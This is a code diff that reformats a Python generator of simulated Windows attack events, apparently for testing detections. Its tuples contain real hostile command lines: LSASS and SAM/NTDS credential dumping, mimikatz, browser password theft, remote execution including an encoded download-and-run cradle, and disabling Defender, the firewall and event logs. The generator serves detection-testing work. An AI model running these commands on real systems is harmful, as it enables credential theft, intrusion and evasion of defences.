@@ -44,7 +44,10 @@ def takes_passwords(scene: Scene) -> Expected:
     drop, number = f"{who.folder(host.user)}{who.word()}", random.randint(500, 900)
     path, command = random.choice(
         (
-            (f"{SYSTEM}rundll32.exe", f"rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump {number} {drop}.dmp full"),
+            (
+                f"{SYSTEM}rundll32.exe",
+                f"rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump {number} {drop}.dmp full",
+            ),
             (f"{SYSTEM}rundll32.exe", f"rundll32 comsvcs.dll,#24 {number} {drop}.bin full"),
             (f"{drop}.exe", f"{drop}.exe -accepteula -ma lsass.exe {drop}.dmp"),
             (f"{SYSTEM}reg.exe", f"reg save HKLM\\SAM {drop}.sav /y"),
@@ -52,9 +55,12 @@ def takes_passwords(scene: Scene) -> Expected:
             (f"{SYSTEM}ntdsutil.exe", f'ntdsutil "ac i ntds" "ifm" "create full {drop}" q q'),
             (CMD, f"cmd /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\windows\\ntds\\ntds.dit {drop}"),
             (f"{drop}.exe", f'{drop}.exe "privilege::debug" "sekurlsa::logonpasswords" exit'),
-            (POWERSHELL, f'powershell -c "Copy-Item $env:LOCALAPPDATA\\Google\\Chrome\\User` Data\\Default\\Login` Data {drop}"'),
+            (
+                POWERSHELL,
+                f'powershell -c "Copy-Item $env:LOCALAPPDATA\\Google\\Chrome\\User` Data\\Default\\Login` Data {drop}"',
+            ),
         )
-    )  # fmt: skip
+    )
     parent = random.choice((CMD, POWERSHELL))
     looks_around(scene, host, parent)
     scene.then(
@@ -78,15 +84,44 @@ def goes_over(scene: Scene) -> Expected:
     account = random.choice((first.user, "administrator", "admin", "svc_backup"))
     remote, parent, child = random.choice(
         (
-            (f'wmic /node:"{second.ip}" /user:{account} process call create "cmd.exe /c {drop}"', f"{SYSTEM}wbem\\WmiPrvSE.exe", f"cmd.exe /c {drop}"),
-            (f'wmic /node:{second.name} process call create "powershell -enc {who.encoded("IEX " + who.url())}"', f"{SYSTEM}wbem\\WmiPrvSE.exe", f"powershell -enc {who.encoded('IEX ' + who.url())}"),
-            (f"{who.folder(first.user)}PsExec64.exe \\\\{second.name} -s -d cmd.exe /c {drop}", "C:\\Windows\\PSEXESVC.exe", f"cmd.exe /c {drop}"),
-            (f"schtasks /create /s {second.ip} /u {account} /sc once /st 00:00 /tn {who.word()} /tr {drop} /ru SYSTEM", f"{SYSTEM}svchost.exe", drop),
-            (f'sc.exe \\\\{second.name} create {who.word()} binPath= "cmd /c {drop}" start= demand', f"{SYSTEM}services.exe", f"cmd /c {drop}"),
-            (f'powershell Invoke-Command -ComputerName {second.name} -ScriptBlock {{ {drop} }}', f"{SYSTEM}wsmprovhost.exe", f'"{SYSTEM}cmd.exe" /c {drop}'),
-            (f"{who.word()}.exe {account}:P@ss@{second.ip}", f"{SYSTEM}wbem\\WmiPrvSE.exe", f"cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__{random.random()} 2>&1"),
+            (
+                f'wmic /node:"{second.ip}" /user:{account} process call create "cmd.exe /c {drop}"',
+                f"{SYSTEM}wbem\\WmiPrvSE.exe",
+                f"cmd.exe /c {drop}",
+            ),
+            (
+                f'wmic /node:{second.name} process call create "powershell -enc {who.encoded("IEX " + who.url())}"',
+                f"{SYSTEM}wbem\\WmiPrvSE.exe",
+                f"powershell -enc {who.encoded('IEX ' + who.url())}",
+            ),
+            (
+                f"{who.folder(first.user)}PsExec64.exe \\\\{second.name} -s -d cmd.exe /c {drop}",
+                "C:\\Windows\\PSEXESVC.exe",
+                f"cmd.exe /c {drop}",
+            ),
+            (
+                f"schtasks /create /s {second.ip} /u {account} /sc once /st 00:00 "
+                f"/tn {who.word()} /tr {drop} /ru SYSTEM",
+                f"{SYSTEM}svchost.exe",
+                drop,
+            ),
+            (
+                f'sc.exe \\\\{second.name} create {who.word()} binPath= "cmd /c {drop}" start= demand',
+                f"{SYSTEM}services.exe",
+                f"cmd /c {drop}",
+            ),
+            (
+                f"powershell Invoke-Command -ComputerName {second.name} -ScriptBlock {{ {drop} }}",
+                f"{SYSTEM}wsmprovhost.exe",
+                f'"{SYSTEM}cmd.exe" /c {drop}',
+            ),
+            (
+                f"{who.word()}.exe {account}:P@ss@{second.ip}",
+                f"{SYSTEM}wbem\\WmiPrvSE.exe",
+                f"cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__{random.random()} 2>&1",
+            ),
         )
-    )  # fmt: skip
+    )
     begun = remote.split()[0]
     path = (
         begun
@@ -117,16 +152,25 @@ def switches_off(scene: Scene) -> Expected:
     key = "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender"
     ways = (
         (POWERSHELL, "powershell Set-MpPreference -DisableRealtimeMonitoring $true"),
-        (POWERSHELL, "powershell.exe -ep bypass Set-MpPreference -DisableRealtimeMonitoring 1 -DisableIOAVProtection 1"),
+        (
+            POWERSHELL,
+            "powershell.exe -ep bypass Set-MpPreference -DisableRealtimeMonitoring 1 -DisableIOAVProtection 1",
+        ),
         (POWERSHELL, f'powershell -c "Add-MpPreference -ExclusionPath {who.folder(host.user)}"'),
         (f"{SYSTEM}reg.exe", f'reg add "{key}" /v DisableAntiSpyware /t REG_DWORD /d 1 /f'),
         (f"{SYSTEM}sc.exe", "sc config WinDefend start= disabled"),
         (f"{SYSTEM}net.exe", f"net stop {random.choice(('WinDefend', 'wscsvc', 'SepMasterService'))}"),
         (f"{SYSTEM}netsh.exe", "netsh advfirewall set allprofiles state off"),
         (f"{SYSTEM}wevtutil.exe", f"wevtutil cl {random.choice(('Security', 'System'))}"),
-        (f"{SYSTEM}taskkill.exe", f"taskkill /f /im {random.choice(('MsMpEng.exe', 'KeepEyeAgent.exe', 'NTRTScan.exe'))}"),
-        ("C:\\Program Files\\Windows Defender\\MpCmdRun.exe", '"C:\\Program Files\\Windows Defender\\MpCmdRun.exe" -RemoveDefinitions -All'),
-    )  # fmt: skip
+        (
+            f"{SYSTEM}taskkill.exe",
+            f"taskkill /f /im {random.choice(('MsMpEng.exe', 'KeepEyeAgent.exe', 'NTRTScan.exe'))}",
+        ),
+        (
+            "C:\\Program Files\\Windows Defender\\MpCmdRun.exe",
+            '"C:\\Program Files\\Windows Defender\\MpCmdRun.exe" -RemoveDefinitions -All',
+        ),
+    )
     for path, command in random.sample(ways, 2):
         scene.then(Started(host, path, command, CMD), (2, 60))
     scene.then(Antivirus(host, 5001))
